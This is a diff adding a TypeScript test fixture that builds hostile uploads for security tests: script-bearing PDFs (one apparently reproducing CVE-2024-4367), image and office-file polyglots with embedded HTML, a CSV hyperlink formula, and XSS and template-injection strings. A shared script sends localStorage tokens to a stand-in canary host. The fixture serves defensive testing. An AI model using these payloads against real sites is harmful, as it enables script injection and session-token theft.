@@ -1,0 +1,82 @@
+import { gif, jpeg, ole, openDocument, openXml, png } from "../server/testing/sample-files.ts";
+
+/** Another host: nothing that is shown may ever ask it for anything. */
+export const CANARY = "https://canari.example";
+
+const RUN = `(window.opener||window.parent||window).pwned=1;window.pwned=1;fetch('${CANARY}/jeton?'+localStorage.token)`;
+const HTML = `<!doctype html><html><body onload="${RUN}"><script>${RUN}</script><img src="${CANARY}/x.png" onerror="${RUN}"><svg onload="${RUN}"></svg></body></html>`;
+/** Markup that is not the first thing in a text: that one is refused. */
+const LATE_HTML = `Ordre du jour\n${HTML}\n`;
+
+const page = (catalog: string, more: string, resources = ""): string =>
+  `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R${catalog}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n` +
+  `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]${resources}>>endobj\n${more}trailer<</Root 1 0 R>>\n%%EOF\n`;
+
+const action = (script: string) => `<</S/JavaScript/JS(${script})>>`;
+
+/** Runs by itself in readers that run scripts, as the browser's own does, in a box without page nor token: it asks for an address and sends what it can. */
+const scriptedPdf = page(
+  `/OpenAction${action(`app.launchURL\\("${CANARY}/pdf"\\);this.pwned=1`)}/AA<</WC${action("this.pwned=1")}>>/URI<</Base(${CANARY}/)>>`,
+  `4 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 200 100]/A<</S/URI/URI(javascript:window.pwned=1)>>>>endobj\n` +
+    `5 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 200 100]/A<</S/SubmitForm/F(${CANARY}/)>>>>endobj\n`,
+  "/Annots[4 0 R 5 0 R]",
+);
+
+/** CVE-2024-4367: what stands in the matrix of a font was once compiled as JavaScript. */
+const fontPdf = page(
+  "",
+  "6 0 obj<</Type/Font/Subtype/Type1/BaseFont/Piege/FirstChar 0/LastChar 255/FontMatrix[0.1 0 0 0.1 0 (1\\);window.pwned=1;\\(1)]/FontDescriptor 7 0 R>>endobj\n" +
+    "7 0 obj<</Type/FontDescriptor/FontName/Piege/Flags 4/FontBBox[0 0 1 1]/ItalicAngle 0/Ascent 1/Descent 0/CapHeight 1/StemV 1/FontFile 9 0 R>>endobj\n" +
+    "8 0 obj<</Length 44>>stream\nBT /F1 24 Tf 2 Tr 20 40 Td (Bonjour) Tj ET    \nendstream endobj\n" +
+    "9 0 obj<</Length 120/Length1 120/Length2 0/Length3 0>>stream\n%!PS-AdobeFont-1.0: Piege\n/FontMatrix [0.1 0 0 0.1 0 (1\\);window.pwned=1;\\(1)] readonly def\ncurrentfile eexec\nendstream endobj\n",
+  "/Contents 8 0 R/Resources<</Font<</F1 6 0 R>>>>",
+);
+
+export interface HostileFile {
+  name: string;
+  data: Buffer;
+}
+
+/** Files of types that are accepted, each of which some program has run. */
+export const HOSTILE_FILES: HostileFile[] = [
+  { name: "script.pdf", data: Buffer.from(scriptedPdf) },
+  { name: "police.pdf", data: Buffer.from(fontPdf) },
+  { name: "page.pdf", data: Buffer.from(`%PDF-1.4\n${HTML}\n%%EOF\n`) },
+  { name: "page.gif", data: Buffer.concat([gif, Buffer.from(HTML)]) },
+  { name: "commande.gif", data: Buffer.from(`GIF89a=1;${RUN}//${"\0".repeat(20)}`) },
+  { name: "page.png", data: Buffer.concat([png, Buffer.from(HTML)]) },
+  { name: "page.jpg", data: Buffer.concat([jpeg, Buffer.from(HTML)]) },
+  { name: "page.txt", data: Buffer.from(LATE_HTML) },
+  { name: "commande.txt", data: Buffer.from(`${RUN}\n`) },
+  { name: "page.csv", data: Buffer.from(`nom;lien\n=HYPERLINK("${CANARY}");${HTML.replaceAll("\n", "")}\n`) },
+  { name: "page.docx", data: openXml("docx", [{ name: "word/page.html", data: HTML }]) },
+  { name: "page.odt", data: openDocument("odt", [{ name: "page.html", data: HTML }]) },
+  { name: "page.doc", data: Buffer.concat([ole, Buffer.from(HTML)]) },
+];
+
+/** What is refused at the door, whatever it is called. */
+export const REFUSED_FILES: HostileFile[] = [
+  "page.html",
+  "dessin.svg",
+  "page.xhtml",
+  "page.pdf.html",
+  "page.txt",
+  "page.csv",
+  "page.png",
+  "page.xml",
+  "commande.js",
+].map((name) => ({ name, data: Buffer.from(name.endsWith(".svg") ? `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>` : HTML) }));
+
+/** Texts that some page has run, or has made a link of; short enough for every field. */
+export const HOSTILE_TEXTS = [
+  "<script>window.pwned=1</script>",
+  "<img src=x onerror=window.pwned=1>",
+  '"><svg onload=window.pwned=1>',
+  "javascript:window.pwned=1",
+  "' onmouseover='window.pwned=1",
+  "{{constructor.constructor('window.pwned=1')()}}",
+  "</title></script><script>window.pwned=1</script>",
+  "[x](javascript:window.pwned=1) ![x](https://canari.example/i)",
+  '<iframe srcdoc="<script>parent.pwned=1</script>">',
+  "//canari.example/x <a href=//canari.example>x</a>",
+];
